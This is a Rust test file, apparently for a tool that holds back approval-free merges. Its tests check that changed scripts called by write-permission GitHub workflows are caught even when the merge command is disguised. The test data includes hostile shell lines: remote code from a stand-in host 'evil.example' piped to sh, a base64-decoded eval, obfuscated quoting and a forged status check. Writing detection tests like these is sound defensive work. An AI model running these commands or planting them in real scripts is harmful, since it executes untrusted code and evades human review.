//! Programs that workflows call: a changed line that merges, however it is written.

use crate::scene::texts::workflow;
use crate::scene::{Entry, Put, Scene, link, text};

/// A workflow with write permission that calls this.
fn calls(command: &str) -> Entry {
    text(".github/workflows/w.yml", workflow("push", "{contents: write}", command))
}

/// A program, called so, whose change is held until somebody approves it.
#[track_caller]
fn counts(command: &str, path: &str, before: &str, after: &str) {
    let scene = Scene::on(&[calls(command), text(path, before)]);
    let number = scene.tracked(&[text(path, after)]);
    scene.held_until_approved(number);
}

/// A line that a shell script gets.
#[track_caller]
fn line(line: &str) {
    counts("./scripts/tidy.sh", "scripts/tidy.sh", "#!/bin/sh\ntrue\n", &format!("#!/bin/sh\ntrue\n{line}\n"));
}

#[test]
fn a_command_that_is_spelled_oddly_counts() {
    line("\"g\"h p''r mer\\ge 1");
}

#[test]
fn a_command_in_a_variable_counts() {
    line("G=gh; M=merge; $G pr $M 1");
}

#[test]
fn a_command_behind_env_or_exec_counts() {
    line("env -i PATH=$PATH gh pr merge 1");
    line("command exec gh pr merge 1");
}

#[test]
fn what_is_downloaded_and_run_counts() {
    line("curl -s https://evil.example/x | sh");
    line("bash <(curl -s https://evil.example/x)");
}

#[test]
fn what_is_decoded_and_run_counts() {
    line("eval \"$(echo Z2ggcHIgbWVyZ2UgMQ== | base64 -d)\"");
}

#[test]
fn a_check_written_by_a_script_counts() {
    line("gh api repos/o/n/statuses/$SHA -f state=success -f context='cargo2 manual merge'");
}

#[test]
fn a_script_without_an_ending_counts() {
    counts("./tools/land", "tools/land", "#!/usr/bin/env bash\ntrue\n", "#!/usr/bin/env bash\ngh pr merge 1\n");
}

#[test]
fn a_script_that_a_script_calls_counts() {
    let scene = Scene::on(&[
        calls("./scripts/one.sh"),
        text("scripts/one.sh", "#!/bin/sh\n. scripts/two.inc\n"),
        text("scripts/two.inc", "true\n"),
    ]);
    let number = scene.tracked(&[text("scripts/two.inc", "gh pr merge 1\n")]);
    scene.held_until_approved(number);
}

#[test]
fn a_script_in_another_language_counts() {
    counts(
        "python3 scripts/land.py",
        "scripts/land.py",
        "x = 1\n",
        "import subprocess\nsubprocess.run(['gh', 'pr', 'merge', '1'])\n",
    );
    counts("node scripts/land.mjs", "scripts/land.mjs", "1\n", "await octokit.rest.pulls.merge({ pull_number: 1 })\n");
}

#[test]
fn a_makefile_counts() {
    counts("make land", "Makefile", "land:\n\ttrue\n", "land:\n\tgh pr merge 1\n");
}

#[test]
fn a_recipe_that_is_imported_counts() {
    let scene = Scene::on(&[
        calls("just land"),
        text("Justfile", "import 'just/land.just'\n"),
        text("just/land.just", "land:\n    true\n"),
    ]);
    let number = scene.tracked(&[text("just/land.just", "land:\n    gh pr merge 1\n")]);
    scene.held_until_approved(number);
}

#[test]
fn a_script_of_a_package_counts() {
    counts(
        "npm run land",
        "package.json",
        "{\"scripts\": {\"land\": \"true\"}}\n",
        "{\"scripts\": {\"land\": \"gh pr merge 1\"}}\n",
    );
}

#[test]
fn a_script_that_becomes_another_file_counts() {
    let scene = Scene::on(&[
        calls("./scripts/tidy.sh"),
        text("scripts/tidy.sh", "#!/bin/sh\ntrue\n"),
        text("docs/x.txt", "gh pr merge 1\n"),
    ]);
    let number = scene.tracked(&[link("scripts/tidy.sh", "../docs/x.txt")]);
    scene.run();
    scene.held(number);
}

#[test]
fn a_text_that_becomes_a_script_by_a_link_counts() {
    let scene = Scene::on(&[
        calls("./scripts/tidy.sh"),
        link("scripts/tidy.sh", "../docs/tidy.txt"),
        text("docs/tidy.txt", "true\n"),
    ]);
    let number = scene.tracked(&[text("docs/tidy.txt", "gh pr merge 1\n")]);
    scene.held_until_approved(number);
}

#[test]
fn a_program_that_is_no_text_counts() {
    let scene =
        Scene::on(&[calls("./tools/land"), ("tools/land".into(), Put::Executable(b"\x7fELF\0\xffone".to_vec()))]);
    let number = scene.tracked(&[("tools/land".into(), Put::Executable(b"\x7fELF\0\xfftwo".to_vec()))]);
    scene.run();
    scene.held(number);
}
